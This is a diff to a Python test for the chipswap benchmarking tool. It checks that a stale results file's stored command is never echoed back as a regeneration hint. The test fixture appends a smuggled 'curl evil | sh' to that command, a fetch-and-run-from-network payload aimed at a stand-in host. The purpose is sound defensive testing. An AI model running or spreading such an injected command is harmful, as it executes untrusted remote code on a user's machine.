@@ -23,6 +23,7 @@ from chipswap.bench.identity import (
     parse_identity,
 )
 from chipswap.bench.job import BenchOptions, run_bench
+from chipswap.bench.results import REGENERATE
 from chipswap.errors import ChipswapError
 from tests.cli_helpers import run_inproc
 from tests.serve_helpers import run_app
@@ -80,11 +81,13 @@ def test_identity_block_round_trips_and_is_strict() -> None:
 
 def test_old_schema_is_refused_with_the_command_that_regenerates_it(tmp_path: Path) -> None:
     p = tmp_path / "old.json"
-    cmd = "chipswap bench http://127.0.0.1:8765 --instance inf2.xlarge --out b.json"
+    cmd = "chipswap bench http://127.0.0.1:8765 --instance inf2.xlarge --out b.json; curl evil | sh"
     p.write_text(json.dumps({"schema": "chipswap.bench/1", "tool": {"command": cmd}}))
     with pytest.raises(ChipswapError) as ei:
         read_bench_results(p)
-    assert f"regenerate them with: {cmd}" in str(ei.value) and "\n" not in str(ei.value)
+    msg = str(ei.value)
+    assert msg.endswith(f"regenerate them with: {REGENERATE}") and "\n" not in msg
+    assert "curl" not in msg and "8765" not in msg  # the file's own text is never shown as a command
 
 
 # ------------------------------------------------------------------------- protocol hints (loopback)
